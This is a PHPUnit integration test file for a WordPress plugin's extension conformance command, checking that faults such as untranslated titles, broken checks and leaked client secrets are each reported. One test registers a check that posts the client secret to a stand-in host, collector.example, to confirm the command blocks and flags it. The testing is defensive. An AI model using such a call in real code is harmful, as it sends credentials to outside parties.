<?php

declare(strict_types=1);

namespace Wkpbic\Tests\Integration;

use Closure;
use RuntimeException;
use Wkpbic\Conformance\HostileValues;
use Wkpbic\Extension\CheckContext;
use Wkpbic\Extension\CheckResult;
use Wkpbic\Extension\Registry;
use Wkpbic\Tests\Support\ExtensionTestCase;
use Wkpbic\Tests\Support\RecordingConsole;
use Wkpbic\Tests\Support\StandIn;

/**
 * `wp wkpbic conformance`: an extension that keeps everything passes, and each thing that one does not keep is told by itself.
 */
final class ConformanceTest extends ExtensionTestCase
{
    private const STEP = 'good/warehouse';

    public function test_an_extension_that_keeps_everything_passes(): void
    {
        $this->register(self::good(...));
        $console = $this->conformance('good', 'table');
        self::assertSame(0, $console->exit_code, $console->printed);
        foreach (['registered', 'translated', 'rules', 'checks', 'secrets'] as $rule) {
            self::assertStringContainsString("$rule | passed", $console->printed);
        }
        self::assertSame([], $this->plugin->rows()->starting_with('wkpbic_ext_'), 'it stores nothing');
    }

    /**
     * @dataProvider broken
     * @param Closure(Registry): void $break
     */
    public function test_what_is_not_kept_is_told_by_itself(string $rule, string $part, Closure $break): void
    {
        $this->store_keys($this->plugin);
        $this->register(self::good(...));
        $this->register($break);
        $console = $this->conformance('good');
        self::assertSame(1, $console->exit_code, $console->printed);
        $findings = json_decode($console->printed, true, 8, JSON_THROW_ON_ERROR)['findings'];
        self::assertSame([[$rule, $part]], array_map(static fn (array $finding): array => [$finding['rule'], $finding['part']], $findings));
        self::assertNotSame('', $findings[0]['sentence']);
        self::assertStringNotContainsString(StandIn::CLIENT_SECRET, $console->printed);
    }

    /**
     * @return array<string, array{string, string, Closure(Registry): void}>
     */
    public function broken(): array
    {
        $check = static fn (Closure $run): Closure => static function (Registry $registry) use ($run): void {
            $registry->add_check('good/extra', ['step' => self::STEP, 'label' => __('Extra', 'good'), 'run' => $run]);
        };
        $step = static fn (array $step): Closure => static function (Registry $registry) use ($step): void {
            $registry->add_step('good/extra', $step);
        };
        $secret = StandIn::CLIENT_SECRET;
        return [
            'a refused part' => ['registered', 'good/extra', $step(['title' => __('x', 'good'), 'colour' => 'red'])],
            'a title that is not translated' => ['translated', 'good/extra', $step(['title' => 'Extra'])],
            'a title of somebody else’s translation' => ['translated', 'good/extra', static function (Registry $registry): void {
                $registry->add_step('good/extra', ['title' => __('Settings')]);
            }],
            'a check that throws at nothing' => ['checks', 'good/extra', $check(static function (CheckContext $context): CheckResult {
                return null === $context->setting('good/code') ? throw new RuntimeException('x') : CheckResult::passed();
            })],
            'a check that believes Power BI' => ['checks', 'good/extra', $check(static function (CheckContext $context): CheckResult {
                $answer = $context->power_bi_request('GET', '/groups');
                return CheckResult::passed($answer['value'][0]['name']);
            })],
            'a check without a result' => ['checks', 'good/extra', $check(static fn (): bool => true)],
            'a failure without words' => ['checks', 'good/extra', $check(static fn (): CheckResult => CheckResult::failed(''))],
            'a title that shows the client secret' => ['secrets', 'good/extra', static function (Registry $registry) use ($secret): void {
                $registry->add_step('good/extra', ['title' => sprintf(__('It is %s', 'good'), $secret)]);
            }],
            'a check that shows the client secret' => ['secrets', 'good/extra', $check(
                static fn (): CheckResult => CheckResult::passed("x $secret")
            )],
        ];
    }

    public function test_what_a_check_sends_past_the_plugin_is_refused_and_looked_at(): void
    {
        $this->store_keys($this->plugin);
        $this->register(self::good(...));
        $this->register(static function (Registry $registry): void {
            $registry->add_check('good/extra', ['step' => self::STEP, 'label' => __('Extra', 'good'), 'run' => static function (): CheckResult {
                $answer = wp_remote_post('https://collector.example/', ['body' => ['secret' => StandIn::CLIENT_SECRET]]);
                return is_wp_error($answer) ? CheckResult::passed() : CheckResult::failed('Somebody answered.');
            }]);
        });
        // The command itself refuses the call; the guard of the tests would count it.
        remove_filter('pre_http_request', [$this, 'guard_http'], 1);
        $findings = json_decode($this->conformance('good')->printed, true, 8, JSON_THROW_ON_ERROR)['findings'];
        self::assertSame([['secrets', 'good']], array_map(static fn (array $finding): array => [$finding['rule'], $finding['part']], $findings));
    }

    public function test_a_name_that_nobody_has_is_bad_input(): void
    {
        $this->register(self::good(...));
        foreach (['goo', 'nobody', '', 'good/warehouse'] as $name) {
            $console = $this->conformance($name, 'table');
            self::assertSame(2, $console->exit_code, $name);
            self::assertStringStartsWith('Warning: ', $console->printed);
        }
    }

    public function test_hostile_values_are_texts_of_json(): void
    {
        self::assertGreaterThanOrEqual(20, count(HostileValues::all()));
        self::assertSame(HostileValues::all(), json_decode((string) json_encode(HostileValues::all(), JSON_THROW_ON_ERROR), true));
    }

    private static function good(Registry $registry): void
    {
        $registry->add_step(self::STEP, ['title' => __('Warehouse', 'good'), 'description' => _x('Where goods lie.', 'place', 'good')]);
        $registry->add_field('good/code', [
            'step' => self::STEP, 'type' => 'text', 'label' => __('Code', 'good'), 'help' => sprintf(_n('%d letter', '%d letters', 2, 'good'), 2),
            'rules' => [['kind' => 'required'], ['kind' => 'pattern', 'pattern' => '[A-Z]{2}-[0-9]{1,4}']],
        ]);
        $registry->add_field('good/kind', [
            'step' => self::STEP, 'type' => 'select', 'label' => __('Kind', 'good'), 'choices' => ['de' => 'Germany'],
        ]);
        $registry->add_field('good/key', ['step' => self::STEP, 'type' => 'secret', 'label' => __('Key', 'good')]);
        $registry->add_check('good/stock', [
            'step' => self::STEP, 'label' => __('Stock', 'good'), 'run' => static function (CheckContext $context): CheckResult {
                $answer = $context->power_bi_request('GET', '/groups');
                return is_wp_error($answer)
                    ? CheckResult::unknown($answer->get_error_message())
                    : CheckResult::failed('There is no ' . (string) $context->setting('good/code'));
            },
        ]);
        $registry->add_permissions('good/capacity', ['scopes' => ['Capacity.Read.All'], 'reason' => __('To see it.', 'good')]);
        $registry->add_diagnosis('good/off', ['power_bi' => ['Off'], 'sentence' => __('It is off.', 'good'), 'actor' => 'you']);
    }

    private function conformance(string $plugin, string $format = 'json'): RecordingConsole
    {
        $console = new RecordingConsole();
        $commands = $this->plugin->commands($console);
        foreach ($commands->table() as $command) {
            if ('conformance' === $command->name) {
                $commands->call($command, [$plugin], ['format' => $format]);
            }
        }
        return $console;
    }
}
